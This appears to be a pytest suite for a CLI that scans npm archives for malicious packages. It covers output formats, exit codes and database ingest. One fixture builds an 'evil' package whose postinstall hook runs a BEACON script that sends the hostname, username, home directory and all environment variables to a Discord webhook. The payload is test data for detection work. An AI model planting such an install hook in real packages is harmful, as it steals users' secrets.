"""``threatfeed scan`` over real archives built by the test."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from threatfeed.cli.scan import command
from threatfeed.store import Database
from threatfeed.store.models import Analysis, Archive, Package

JSONL_KEYS = {
    "path",
    "ecosystem",
    "name",
    "version",
    "sha256",
    "score",
    "flagged",
    "indicators",
    "errors",
    "elapsed_ms",
}

BEACON = """
const os = require("os");
const https = require("https");
const data = JSON.stringify({host: os.hostname(), user: os.userInfo().username,
  env: process.env, home: os.homedir()});
const req = https.request({hostname: "discord.com", path: "/api/webhooks/1/x", method: "POST"});
req.write(data);
req.end();
"""


def npm_tarball(name: str, version: str, scripts: dict[str, str], files: dict[str, str]) -> bytes:
    manifest = {"name": name, "version": version, "scripts": scripts, "main": "index.js"}
    members = {"package/package.json": json.dumps(manifest), **files}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    root = tmp_path / "corpus"
    (root / "nested").mkdir(parents=True)
    (root / "evil-1.0.0.tgz").write_bytes(
        npm_tarball("evil", "1.0.0", {"postinstall": "node index.js"}, {"package/index.js": BEACON})
    )
    (root / "nested" / "calm.txt").write_bytes(
        npm_tarball(
            "calm",
            "2.1.0",
            {"test": "node test.js"},
            {"package/index.js": "module.exports = (a, b) => a + b;\n"},
        )
    )
    (root / "nested" / "notes.md").write_text("not an archive")
    return root


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(command, list(args))
    return result.exit_code, result.output


def test_jsonl_has_exactly_the_documented_keys(corpus: Path) -> None:
    status, output = run("--format", "jsonl", "-j", "1", str(corpus))
    lines = [json.loads(line) for line in output.splitlines()]
    assert [Path(line["path"]).name for line in lines] == ["evil-1.0.0.tgz", "calm.txt"]
    assert all(set(line) == JSONL_KEYS for line in lines)
    evil, calm = lines
    assert (evil["ecosystem"], evil["name"], evil["version"]) == ("npm", "evil", "1.0.0")
    assert evil["flagged"] is True
    assert evil["indicators"]["npm_hooks_rule"] == ["node index.js"]
    assert calm["flagged"] is False
    assert status == 1


def test_exit_status_is_zero_when_nothing_is_flagged(corpus: Path) -> None:
    status, _ = run("--format", "json", str(corpus / "nested"))
    assert status == 0


def test_usage_errors_exit_2(tmp_path: Path) -> None:
    assert run(str(tmp_path / "missing"))[0] == 2
    assert run("--format", "xml", str(tmp_path))[0] == 2
    assert run()[0] == 2


def test_a_corrupt_archive_is_reported_and_the_run_goes_on(corpus: Path) -> None:
    good = (corpus / "evil-1.0.0.tgz").read_bytes()
    (corpus / "broken.tgz").write_bytes(good[: len(good) // 2])
    status, output = run("--format", "jsonl", "-j", "1", str(corpus))
    lines = {Path(x["path"]).name: x for x in map(json.loads, output.splitlines())}
    assert set(lines) == {"evil-1.0.0.tgz", "calm.txt", "broken.tgz"}
    assert lines["broken.tgz"]["errors"]
    assert status == 1


def test_worker_processes_keep_the_order(corpus: Path) -> None:
    for n in range(6):
        (corpus / f"copy-{n}.tgz").write_bytes((corpus / "evil-1.0.0.tgz").read_bytes())
    _, serial = run("--format", "jsonl", "-j", "1", str(corpus))
    _, parallel = run("--format", "jsonl", "-j", "2", str(corpus))

    def strip(output: str) -> list[dict[str, object]]:
        return [
            {k: v for k, v in json.loads(line).items() if k != "elapsed_ms"}
            for line in output.splitlines()
        ]

    assert strip(parallel) == strip(serial)


def test_sarif(corpus: Path) -> None:
    _, output = run("--format", "sarif", str(corpus))
    sarif = json.loads(output)
    assert sarif["version"] == "2.1.0"
    results = sarif["runs"][0]["results"]
    assert {"npm_hooks_rule"} <= {r["ruleId"] for r in results}
    assert all(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results)


def test_table_on_the_console_script(corpus: Path) -> None:
    scan = subprocess.run(
        [str(Path(sys.executable).with_name("threatfeed")), "scan", "-j", "1", str(corpus)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert scan.returncode == 1
    assert "FLAGGED" in scan.stdout
    assert "evil" in scan.stdout


def test_ingest_stores_the_analysis(
    corpus: Path, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("THREATFEED_DATABASE_URL", database_url)
    monkeypatch.setenv("THREATFEED_SECRET_KEY", "test")
    status, _ = run("--ingest", "--format", "jsonl", str(corpus))
    assert status == 1
    database = Database(database_url)
    try:
        with database.session() as session:
            rows = session.execute(
                select(Package.name, Package.version, Analysis.flagged)
                .join(Archive, Archive.package_id == Package.id)
                .join(Analysis, Analysis.archive_id == Archive.id)
                .order_by(Package.name)
            ).all()
    finally:
        database.dispose()
    assert [tuple(row) for row in rows] == [("calm", "2.1.0", False), ("evil", "1.0.0", True)]
